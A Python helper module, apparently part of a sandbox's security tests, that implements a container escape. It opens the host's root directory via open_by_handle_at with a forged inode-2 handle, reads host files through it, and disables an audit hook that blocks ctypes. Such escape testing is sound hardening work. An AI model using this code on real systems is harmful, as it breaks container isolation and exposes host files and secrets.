"""Shared by the privilege attacks: the host's root directory through a file handle (inode 2 of the file
system the submission's copy lies on), which CAP_DAC_READ_SEARCH allows whatever the mounts show."""

import ctypes
import errno
import os
import struct

from guard import disarm

disarm()  # the audit hook refuses ctypes
LIBC = ctypes.CDLL(None, use_errno=True)
CLONE_NEWUSER, CLONE_NEWNS = 0x10000000, 0x00020000


def check(result, what):
    """``result`` of a C call, or OSError with its errno."""
    if result < 0 or result is None:
        number = ctypes.get_errno()
        raise OSError(number, f"{what}: {errno.errorcode.get(number, number)}")
    return result


def host_root():
    """An fd of the host file system's root directory."""
    disarm()
    here = os.open(os.path.dirname(os.path.realpath(__file__)), os.O_RDONLY | os.O_DIRECTORY)
    handle = ctypes.create_string_buffer(struct.pack("<iiII", 8, 1, 2, 0))  # 8 bytes, FILEID_INO32_GEN, inode 2
    return check(LIBC.open_by_handle_at(here, handle, os.O_RDONLY | os.O_DIRECTORY), "open_by_handle_at")


def read(root, path):
    fd = os.open(path.lstrip("/"), os.O_RDONLY, dir_fd=root)
    with os.fdopen(fd, errors="replace") as f:
        return f.read()


def attempt(call):
    """"ok", or the errno's name of the OSError ``call`` raised."""
    try:
        call()
    except OSError as exc:
        return errno.errorcode.get(exc.errno, str(exc.errno))
    return "ok"
